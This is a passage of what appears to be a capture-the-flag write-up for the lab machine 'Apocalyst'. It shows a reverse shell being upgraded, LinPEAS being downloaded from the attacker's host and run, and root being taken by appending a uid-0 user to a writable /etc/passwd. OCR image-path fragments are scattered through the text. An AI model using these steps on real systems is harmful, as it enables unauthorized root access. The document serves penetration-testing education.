uid=33(www-data) gid=33(www-data) groups=33(www-data)python isn’t on this host, but python3 is, so I can upgrade my shell:

$ python -c 'import pty;pty.spawn("bash")'
/bin/sh: 2: python: not found
$ python3 -c 'import pty;pty.spawn("bash")'
www-data@apocalyst:/var/www/html/apocalyst.htb$ ^Z
[1]+  Stopped                 sudo nc -lnvp 443
oxdf@parrot$ stty raw -echo ; fg
sudo nc -lnvp 443
reset: unknown terminal type unknown
Terminal type? screen

This user can access /home/falaraki and read user.txt:

www-data@apocalyst:/home/falaraki$ cat user.txt

Shell as root


Nothing else obvious jumped out by poking around in common directories, so I uploaded LinPEAS by starting a Python webserver (python3 -m http.server) in the directory and then using wget from Apocalyst to download it into /dev/shm:

www-data@apocalyst:/dev/shm$ wget
--2021-02-05 19:56:12--
Connecting to connected.
HTTP request sent, awaiting response... 200 OK
Length: 320037 (313K) [text/x-sh]
Saving to: 'linpeas.sh'

linpeas.sh          100%[===>] 312.54K  --.-KB/s    in 0.08s2021-02-05 19:56:13 (4.03 MB/s) - 'linpeas.sh' saved [320037/320037]

I’ll set it executable, and run it:

www-data@apocalyst:/dev/shm$ chmod +x linpeas.sh
www-data@apocalyst:/dev/shm$ ./linpeas.sh
[+] Hashes inside passwd file? ........... No
[+] Writable passwd file? ................ /etc/passwd is writable
[+] Credentials in fstab/mtab? ........... No
[+] Can I read shadow files? ............. No
[+] Can I read opasswd file? ............. No
[+] Can I write in network-scripts? ...... No
[+] Can I read rootfolder? .............. No

It won’t come through in this copy paste, but that /etc/passwd is writable shows up in yellow background with red text! The script is correct:

www-data@apocalyst:/etc$ ls -l passwd
-rw-rw-rw- 1 root root 1637 Jul 26  2017 passwd

That’s exploitable.

Create Root User

I’ll generate a password hash of the format that would show up in a passwd file:

www-data@apocalyst:/etc$ openssl passwd -1 0xdf

The format of a line in the passwd file is:

[user]:[hash including $[type]$[salt]$[hash]]:[userid]:[groupid]:[comment]:[homedir]:[shell]So I’ll use that to generate a line for a new user with user and group id 0 (root):


I’ll add that line to the end of the passwd file:

www-data@apocalyst:/etc$ echo 'oxdf:$1$ZdNgkXMh$IACjDuFtgYshwpcoQhQjB/:0:0:0xdf:/root:/bin/bash' >> passwd

Now su oxdf will prompt for that user’s password, which I justset to “0xdf”:

www-data@apocalyst:/etc$ su oxdf

Because the oxdf user has userid 0, it is root.

I can grab the flag:root@apocalyst:~# cat root.txt